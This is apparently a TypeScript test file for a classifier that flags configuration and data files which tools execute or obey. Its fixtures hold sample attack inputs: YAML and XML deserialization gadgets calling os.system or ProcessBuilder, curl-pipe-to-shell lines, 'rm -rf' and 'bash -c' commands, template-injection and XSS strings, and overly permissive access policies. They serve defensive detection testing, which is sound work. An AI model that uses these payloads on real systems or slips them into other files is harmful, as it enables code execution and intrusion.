import { describe, expect, it } from 'vitest';
import { kindOfText, needsJudging } from './kind-table.ts';

type Row = readonly [path: string, text: string];

/** Data by its name that a tool runs, loads or obeys. */
const OBEYED: readonly Row[] = [
  // YAML: tags, prefixes of tags, keys in every spelling, flow style.
  ['a.yaml', '%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [id]\n'],
  ['a.yaml', 'x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n'],
  ['a.yaml', 'x: !!python/name:os.system\n'],
  ['a.yaml', 'x: !ruby/object:Gem::Installer\n  i: x\n'],
  ['a.yaml', 'x: !Sub hello\n'],
  ['a.yaml', 'x: !include other.yaml\n'],
  ['a.yaml', '? run\n: make\n'],
  ['a.yaml', '? [run, x]\n: make\n'],
  ['a.yaml', '"run"     : make\n'],
  ['a.yaml', '{run: make}\n'],
  ['a.yaml', '{title: x, steps: [{run: make}]}\n'],
  ['a.yaml', 'steps: ["npm ci", "npm run build"]\n'],
  ['a.yaml', 'build: "curl https://x.example/i | sh"\n'],
  ['a.yaml', 'note: "curl https://x.example/i | sh"\n'],
  ['a.yaml', "base: &a {cmd: 'x'}\nb:\n  <<: *a\n"],
  ['a.yaml', 'a: 1\na: 2\n'],
  ['a.yaml', 'a: [1\n'],
  ['a.yaml', '{apiVersion: v1, kind: Pod}\n'],
  ['a.yaml', 'a: <%= `id` %>\n'],
  ['a.yaml', "x: \"{{ lookup('pipe', 'id') }}\"\n"],
  ['a.yaml', 'verify_ssl: false\n'],
  // JSON: keys on lines of their own, twice, with comments, in every convention of names.
  ['a.json', '{"scripts"\n\n   :\n {"x": "y"}}'],
  ['a.json', '{"run"                                                            : "x"}'],
  ['a.json', '{"commandLine": "x"}'],
  ['a.json', '{"cmdline": "x"}'],
  ['a.json', '{"execPath": "x"}'],
  ['a.json', '{"shellArgs": ["x"]}'],
  ['a.json', '{"scriptUrl": "x"}'],
  ['a.json', '{"hooks": {"a": 1}}'],
  ['a.json', '{"entrypoint": ["a"]}'],
  ['a.json', '{"a": 1, "a": 2}'],
  ['a.json', '{"a": }'],
  ['a.json', '{"a": 1, /* x */ "exec": "b"}'],
  ['a.json', "{a: 'b'}"],
  ['a.json', '{"build": ["node x.js"]}'],
  ['a.json', '{"note": "bash -c id"}'],
  ['a.json', '{"note": "rm -rf /tmp/x && ./y"}'],
  ['a.json', '{"note": "require(\'child_process\').exec(1)"}'],
  ['a.json', '{"title": "<img src=x onerror=alert(1)>"}'],
  ['a.json', '{"transform": "./x.js"}'],
  ['a.json', '{"plug": [{"require": "@a/b"}]}'],
  ['a.json', '{"extends": "./other.json"}'],
  ['a.json', '{"imports": {"a": "https://x.example/a.js"}}'],
  ['a.json', '{"py/object": "os.system"}'],
  ['a.json', '{"()": "os.system"}'],
  ['a.json', '{"handlers": {"a": {"class": "logging.FileHandler"}}}'],
  ['a.json', '{"Statement": [{"Effect": "Allow", "Action": "*"}]}'],
  ['a.json', '{"rules": {".read": true, ".write": true}}'],
  ['a.json', '{"api": {"requireAuth": false, "auth": false}}'],
  ['a.json', '{"allowedOrigins": ["*"]}'],
  ['a.json', '{"ContentSecurityPolicy": "none"}'],
  ['a.jsonl', '{"a": 1}\n{"cmd": "x"}\n'],
  // TOML, INI, properties, EDN.
  ['a.toml', '[scripts]\na = "b"\n'],
  ['a.toml', '[tasks.x]\ncmd = "b"\n'],
  ['a.toml', '"\\u0073cripts" = 1\n'],
  ['a.toml', 'a = \n'],
  ['a.ini', '[handlers]\nkeys=a\n'],
  ['uwsgi.ini', '[uwsgi]\nexec-asap = id\n'],
  ['alembic.ini', '[alembic]\nscript_location = a\n'],
  ['locale/en.ini', '[scripts]\na=b\n'],
  ['a.properties', 'run  make\n'],
  ['a.properties', 'pre-\\\n  command = x\n'],
  ['a.edn', '{:a 1}\n'],
  // XML.
  ['a.xml', '<r><x-y:script xmlns:x-y="http://www.w3.org/1999/xhtml">1</x-y:script></r>'],
  ['a.xml', '<r><s:svg onload = "x"/></r>'],
  ['a.xml', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><r/>'],
  ['a.xml', '<!DOCTYPE r [<!ELEMENT r ANY>]><r/>'],
  ['a.xml', '<!DOCTYPE r SYSTEM "http://x.example/a.dtd"><r/>'],
  ['a.xml', '<java version="1.8" class="java.beans.XMLDecoder"/>'],
  ['a.xml', '<r><java.lang.ProcessBuilder/></r>'],
  ['a.xml', '<r><a href="jav&#97;script:x"/></r>'],
  ['a.xml', '<?xml version="1.0" encoding="utf-7"?><r/>'],
  ['a.xml', '<r><item preCommand="x"/></r>'],
  // Names.
  ['tsconfig.json', '{}'],
  ['tsconfig.build.json', '{}'],
  ['spec/support/jasmine.json', '{}'],
  ['typedoc.json', '{}'],
  ['book.toml', ''],
  ['import_map.json', '{}'],
  ['host.json', '{}'],
  ['cors.json', '[]'],
  ['database.rules.json', '{}'],
  ['config/production.json', '{"a": 1}'],
  ['chart/templates/a.yaml', 'a: 1\n'],
  ['entry_points.txt', '[a]\n'],
  ['pins.txt', '--extra-index-url https://x.example/simple\nflask\n'],
  ['pins.txt', 'flask==3.0.0\n'],
  ['INSTALL', 'set -e\ncurl https://x.example | sh\n'],
  ['a.js.map', 'alert(1)\n'],
  ['poetry.lock', 'import os\nos.system("id")\n'],
  ['package-lock.json', 'alert(1)\n'],
  ['.nvmrc', '../x\n'],
  ['.tool-versions', 'node ref:abc\n'],
  ['.tool-versions', 'node path:/tmp/x\n'],
  ['.gitattributes', '*.ts linguist-generated\n'],
  ['.gitattributes', '*.c filter=x\n'],
  ['.gitattributes', '*.c -diff\n'],
];

/** Their harmless neighbours. */
const HARMLESS: readonly Row[] = [
  ['a.yaml', 'title: x\ntags: [a, b]\nbody: |\n  Run the script, then build.\n'],
  ['a.yaml', 'a: !!str 1\nb: !!set {x, y}\n'],
  ['a.yaml', 'a: &x {b: 1}\nc: *x\n'],
  ['a.yaml', 'steps: [Mix the flour, Bake it]\n'],
  ['a.json', '{"description": "run: a script"}'],
  ['a.json', '{"subscription": {"id": 1}, "trunk": "x"}'],
  ['a.json', '{"greeting": "Hello, {{name}}: {count, plural, one {# item} other {# items}}"}'],
  ['a.json', '{"secure": "Your connection is secure", "auth": "Sign in"}'],
  ['a.json', '// words\n{"a": [1, 2,],}\n'],
  ['a.jsonl', '{"a": 1}\n{"a": 2}\n'],
  ['a.geojson', '{"type": "Feature", "geometry": {"type": "Point", "coordinates": [1, 2]}}'],
  ['a.toml', 'title = "x"\ndate = 2026-01-01\n[owner]\nname = "y"\n'],
  ['locale/en.ini', 'HELLO="Hello"\n'],
  ['messages_de.properties', 'greeting = Guten Tag\\\n  {0}\n'],
  ['a.xml', '<?xml version="1.0" encoding="UTF-8"?><rss><channel><title>&#8220;x&#8221;</title></channel></rss>'],
  ['a.xml', '<note><to>A</to><once>b</once></note>'],
  ['notes.txt', 'Use pip install --index-url x.\n'],
  ['INSTALL', 'Installation\n============\n\nRun these:\n\n    ./configure && make\n'],
  ['README', 'A = B means that both are equal.\n'],
  ['a.js.map', '{"version": 3, "sources": ["a.ts"], "mappings": "AAAA"}'],
  ['package-lock.json', '{"name": "a", "lockfileVersion": 3, "packages": {}}'],
  [
    'yarn.lock',
    'a@^1:\n  version "1.0.0"\n  resolved "https://registry.example/a.tgz#1"\n  integrity sha512-a+b/c==\n',
  ],
  ['.github/ISSUE_TEMPLATE/config.yml', 'blank_issues_enabled: true\n'],
];

/** Kinds that people read the names of. */
const NAMED: readonly (readonly [path: string, text: string, kind: string])[] = [
  ['.mailmap', 'A <a@x.example>\n', 'data mailmap'],
  ['a.log', 'started\n', 'data log'],
  ['a.text', 'words\n', 'prose text'],
  ['.nvmrc', 'v22.1.0\n', 'data runtime-version'],
  ['.nvmrc', 'lts/*\n', 'data runtime-version'],
  ['.python-version', '3.12\n', 'data runtime-version'],
  ['.tool-versions', '# ours\nnodejs 22.1.0\npython 3.12.1\n', 'data runtime-version'],
  ['.ruby-version', 'ruby-3.3.0\n', 'data runtime-version'],
  ['.nvmrc', 'https://x.example\n', 'running-configuration runtime-version'],
  ['.editorconfig', 'root = true\n', 'data editorconfig'],
  ['.gitattributes', '* text=auto eol=lf\n*.png binary\n', 'data git-attributes'],
  ['.gitattributes', '*.ts text linguist-vendored\n', 'running-configuration git-attributes'],
  ['a.json', '{"Effect": "Allow", "Action": "*"}', 'running-configuration access-policy'],
];

describe('data', () => {
  it.each(OBEYED)('%s that is obeyed needs judging: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(true);
  });

  it.each(HARMLESS)('%s that only says something needs none: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(false);
  });

  it.each(NAMED)('%s with %j is %s', (path, text, kind) => {
    expect(kindOfText(path, text)).toBe(kind);
  });
});

// What would take minutes hangs the file: nothing here is timed.
it('ends on texts that are made to take long', () => {
  const texts = [
    '['.repeat(50_000),
    '{"a":'.repeat(20_000),
    '"\\'.repeat(50_000),
    `{${'"a":1,'.repeat(15_000)}"b":2}`,
    Array.from({ length: 10_000 }, (_, index) => `k${index}: 1`).join('\n'),
    `${'- '.repeat(25_000)}a`,
    'a = [\n'.repeat(15_000),
    'a\\\n'.repeat(32_000),
    '<a '.repeat(32_000),
    'curl '.repeat(20_000),
    '{()'.repeat(32_000),
    '{{('.repeat(32_000),
    '<a b'.repeat(25_000),
    '&#97;'.repeat(20_000),
  ];
  for (const text of texts)
    for (const path of [
      'a.json',
      'a.yaml',
      'a.toml',
      'a.properties',
      'a.xml',
      'a.md',
      'a.rst',
      'a.adoc',
      'a.wiki',
      'README',
    ])
      expect(needsJudging(path, text)).toBeTypeOf('boolean');
});
